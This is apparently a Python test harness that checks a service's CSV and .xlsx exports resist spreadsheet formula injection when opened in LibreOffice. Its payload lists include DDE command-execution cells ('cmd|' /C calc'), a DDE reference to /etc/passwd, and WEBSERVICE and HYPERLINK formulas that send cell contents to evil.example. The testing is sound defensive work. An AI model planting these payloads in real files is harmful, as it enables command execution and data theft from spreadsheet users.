"""`make spreadsheets`: open results with hostile cells in LibreOffice, which must compute nothing.

Cells and names of columns that spreadsheets would take for formulas are uploaded in every format, and
the results are downloaded as CSV and .xlsx. LibreOffice opens each as it would for anybody. Then:

- No cell is a formula.
- The text of each cell is what was uploaded. In CSV, an apostrophe may be before it, and what looks
  like a number or a date may have become one.

To show that the harness would notice, it first opens the same cells as a naive program writes them.
"""

import asyncio
import csv
import io
import re
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path

import msgspec
import pyarrow as pa
import xlsxwriter
from pyarrow import parquet

from service.app import create_app
from service.batches.records import Format
from service.postgres.embedded import embedded_postgres
from service.postgres.migrations import migrate
from service.postgres.pools import open_database
from tests.batches.parts import answered, results
from tests.builders import Company, World
from tests.conftest import SETTINGS, living

# What the first line is called. Suffixes such as “.name” and “.date” are usual names of columns.
HEADER = [
    "=3+3",
    "host",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    '=HYPERLINK("http://a.example")',
    "\uff1d1+1",
]

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("soffice";"/etc/passwd";"A1")', "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=1+1;=1+1", "=1+1,=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t\t=1+1", "=\n1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1+1)", "{=1+1}", "%0A=1+1",
    '"=1+1"', '""=1+1""', "'=1+1", "''=1+1", '"', "'", '=""', "=", "+", "-", "@",
]  # fmt: skip

# What begins in another way, and what a spreadsheet might split off from a cell, or leave out.
DISGUISED = [
    " =1+1", "  =1+1", "\xa0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000=1+1", "\u2028=1+1", "\x85=1+1",
    "\v=1+1", "\f=1+1", "\x01=1+1", "\x1f=1+1", "\x7f=1+1", "\u202e=1+1", "a\n=1+1", "a\r\n=1+1",
    "a;=1+1", "a,=1+1", "a\t=1+1", "a|=1+1", ";=1+1;", ",=1+1,", 'a";=1+1;"', 'a",=1+1,"', '"\n=1+1',
    "a;b", "a,b", "a\tb", "a|b", "\u2212 1", "\ufe66 1", "\u207c1",
]  # fmt: skip

# What is no formula, and should stay as it is where a cell knows that it is text.
PLAIN = [
    "123e45", "1234567890123456789012345678901234567890", "12345678901234e5", "1E5", "1e5", "007",
    "2026-03-01", "03/04/2026", "12:30", "1/2", "50%", "$5", "TRUE", "true", "#N/A", "#REF!",
    "NaN", "inf", "_x0041_", "_x000D_", "&amp;", "<f>1+1</f>", "]]>", "süß", "\U0001f600", "e\u0301",
    "x" * 32_767, "=" + "1" * 32_766, "\x02\x03", "a\x08b",
]  # fmt: skip

CELLS = [*FORMULAS, *DISGUISED, *PLAIN]

# What spreadsheets make of a cell of CSV that no program may keep them from.
_MADE_ANOTHER = re.compile(
    r"'?[-+]?[\d.,:/ $%]+(?:[eE]\+?\d+)?|\d{4}-\d\d-\d\d|TRUE|true|NaN|inf|#N/A|#REF!"
)

# XML has no other control characters, and a sheet has one end of lines.
_NO_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_LINE_ENDS = re.compile(r"\r\n|\r|\x85|\u2028")

_DELIMITERS: Mapping[str, str] = {"comma": ",", "semicolon": ";", "tab": "\t", "pipe": "|"}

# LibreOffice's names of its filters, and its options: separators, quote, UTF-8, and the first line.
_CSV = "Text - txt - csv (StarCalc)"
_ANY_SEPARATOR = "44/59/9"

# This is how LibreOffice keeps the truth values of .xlsx.
_BOOLEANS = ("of:=TRUE()", "of:=FALSE()")

_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def rows_of(cells: Sequence[str]) -> list[list[str]]:
    """Rows that ask about a host, each with some of the cells in its first and last columns."""
    rows = []
    for start in range(0, len(cells), 5):
        some = [*cells[start : start + 5], *[""] * 5][:5]
        rows.append([some[0], "shop.example", *some[1:], some[0]])
    return rows


def uploads() -> dict[str, bytes]:
    """The cells as files of every format, by name."""
    files = {}
    for name, delimiter in _DELIMITERS.items():
        text = io.StringIO()
        csv.writer(text, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows(
            [HEADER, *rows_of(CELLS)]
        )
        files[f"{name}.csv"] = text.getvalue().encode()
    files["marked.csv"] = b"\xef\xbb\xbf" + files["comma.csv"]
    rows = [dict(zip(HEADER, row, strict=True)) for row in rows_of(CELLS)]
    files["lines.ndjson"] = b"".join(msgspec.json.encode(row) + b"\n" for row in rows)
    # A name may begin with what is a mark at the beginning of a file.
    marked = {"\ufeff=4+4" if name == "=3+3" else name: name for name in HEADER}
    table = pa.table({name: [row[as_in] for row in rows] for name, as_in in marked.items()})
    file = io.BytesIO()
    parquet.write_table(table, file)
    files["columns.parquet"] = file.getvalue()
    files["sheet.xlsx"] = _sheet([HEADER, *rows_of(CELLS)])
    return files


def _sheet(rows: Sequence[Sequence[str]]) -> bytes:
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet()
        for at, row in enumerate(rows):
            for column, cell in enumerate(row):
                sheet.write_string(at, column, cell)
    return file.getvalue()


async def checked(
    world: World, caller: Company, name: str, content: bytes
) -> dict[Format, tuple[bytes, str]]:
    """Have a file answered; return the results as CSV and .xlsx, and the delimiter."""
    batch = await answered(world, caller, content, name=name, column="host")
    assert batch["state"] == "finished", batch
    (row,) = await world.fetch(
        "SELECT layout::jsonb ->> 'delimiter' FROM batch WHERE id = $1", batch["id"]
    )
    delimiter = row[0] or ","
    forms: tuple[Format, ...] = ("csv", "xlsx")
    return {form: (await results(world, caller, batch, format=form), delimiter) for form in forms}


def opened(files: Sequence[Path], options: str | None = None) -> dict[str, list[list[object]]]:
    """The cells of each file's first sheet, as LibreOffice opens it: text, or an `Other`."""
    with tempfile.TemporaryDirectory() as directory:
        subprocess.run(
            [
                "soffice", f"-env:UserInstallation=file://{directory}/profile", "--headless",
                *([] if options is None else [f"--infilter={_CSV}:{options}"]),
                "--convert-to", "fods", "--outdir", directory, *map(str, files),
            ],
            check=True, capture_output=True, timeout=300,
        )  # fmt: skip
        return {file.name: list(_cells(Path(directory) / f"{file.stem}.fods")) for file in files}


class Other(str):
    """A cell that is neither text nor computed, such as a number or a date."""


class Formula(str):
    """A cell that is computed."""


def _cells(path: Path) -> Iterator[list[object]]:
    table = next(ET.parse(path).iter(f"{_TABLE}table"))  # noqa: S314 - LibreOffice wrote it
    for row in table.iter(f"{_TABLE}table-row"):
        cells: list[object] = []
        for cell in row.iter(f"{_TABLE}table-cell"):
            repeated = int(cell.get(f"{_TABLE}number-columns-repeated", "1"))
            # The rest of a sheet is one cell.
            cells += [_cell(cell)] * min(repeated, 100)
        yield cells


def _cell(cell: ET.Element) -> str:
    text = "\n".join(map(_paragraph, cell.findall(f"{_TEXT}p")))
    formula = cell.get(f"{_TABLE}formula")
    if formula is not None and formula not in _BOOLEANS:
        return Formula(formula)
    if cell.get(f"{_OFFICE}value-type", "string") != "string":
        return Other(text)
    return text


def _paragraph(element: ET.Element) -> str:
    text = element.text or ""
    for child in element:
        if child.tag == f"{_TEXT}s":
            text += " " * int(child.get(f"{_TEXT}c", "1"))
        elif child.tag == f"{_TEXT}tab":
            text += "\t"
        elif child.tag == f"{_TEXT}line-break":
            text += "\n"
        else:
            text += _paragraph(child)
        text += child.tail or ""
    return text


def faults_in(
    name: str,
    cells: Sequence[Sequence[object]],
    uploaded: Sequence[Sequence[str]],
    *,
    is_csv: bool,
) -> Iterator[str]:
    """Tell what is wrong with the cells of results: formulas, and texts that have changed."""
    for number, row in enumerate(cells):
        for column, cell in enumerate(row):
            if isinstance(cell, Formula):
                yield f"{name}: row {number}, column {column} computes {cell[:80]!r}"
    if len(cells) < len(uploaded):
        yield f"{name}: {len(cells)} rows instead of {len(uploaded)}"
    for number, (row, texts) in enumerate(zip(cells, uploaded, strict=False)):
        for column, text in enumerate(texts):
            cell = row[column] if column < len(row) else ""
            if isinstance(cell, Formula) or _plain(text) == _plain(str(cell)):
                continue
            if is_csv and (
                _plain(f"'{text}") == _plain(str(cell))
                or (isinstance(cell, Other) and _MADE_ANOTHER.fullmatch(text))
            ):
                continue
            yield f"{name}: row {number}, column {column} is {str(cell)[:80]!r} for {text[:80]!r}"


def _plain(text: str) -> str:
    return _NO_XML.sub("", _LINE_ENDS.sub("\n", text))


def naive(directory: Path) -> Iterator[str]:
    """Open the cells as a naive program writes them; tell what LibreOffice computes."""
    file = directory / "naive.csv"
    with file.open("w", newline="") as text:
        csv.writer(text).writerows([HEADER, *rows_of(FORMULAS)])
    for row in opened([file], "44,34,76,1")[file.name]:
        yield from (cell for cell in row if isinstance(cell, Formula))


async def look(directory: Path) -> list[str]:
    """Upload the cells in every format, open the results, and tell what is wrong."""
    with embedded_postgres(directory / "state") as url:
        await migrate(url)
        async with (
            open_database(url) as database,
            living(create_app(url, msgspec.structs.replace(SETTINGS, access_log=False))) as client,
        ):
            return await _look(World(database, client), directory)


async def _look(world: World, directory: Path) -> list[str]:
    caller = await world.company()
    owner = await world.company("=1+1;=HYPERLINK(1)")
    await world.own(owner, "shop.example")
    await world.permit(owner, caller)
    by_options: dict[str | None, list[Path]] = {}
    for name, content in uploads().items():
        for form, (file, delimiter) in (await checked(world, caller, name, content)).items():
            path = directory / f"{name.replace('.', '-')}.{form}"
            path.write_bytes(file)
            if form == "xlsx":
                by_options.setdefault(None, []).append(path)
            else:
                by_options.setdefault(f"{ord(delimiter)},34,76,1", []).append(path)
                # Also where all that LibreOffice offers separates cells.
                if delimiter != "|":
                    by_options.setdefault(f"{_ANY_SEPARATOR},34,76,1", []).append(path)
    faults: list[str] = []
    for options, paths in by_options.items():
        for name, cells in opened(paths, options).items():
            how = f"{name}, opened {f'with {options}' if options else 'as it is'}"
            formulas = sum(isinstance(cell, Formula) for row in cells for cell in row)
            _say(f"{how}: {len(cells)} rows, {formulas} formulas")
            header = ["\ufeff=4+4", *HEADER[1:]] if name.startswith("columns") else HEADER
            is_csv = name.endswith(".csv")
            faults += faults_in(how, cells, [header, *rows_of(CELLS)], is_csv=is_csv)
    return faults


def _say(text: str) -> None:
    sys.stderr.write(f"{text}\n")


def main() -> None:
    with tempfile.TemporaryDirectory() as directory:
        computed = list(naive(Path(directory)))
        _say(f"of a naive program's CSV, LibreOffice computes {len(computed)} cells")
        assert len(computed) > 10, computed
        faults = asyncio.run(look(Path(directory)))
    for fault in faults:
        _say(f"FAIL: {fault}")
    _say("PASS" if not faults else f"{len(faults)} faults")
    sys.exit(bool(faults))


if __name__ == "__main__":
    main()
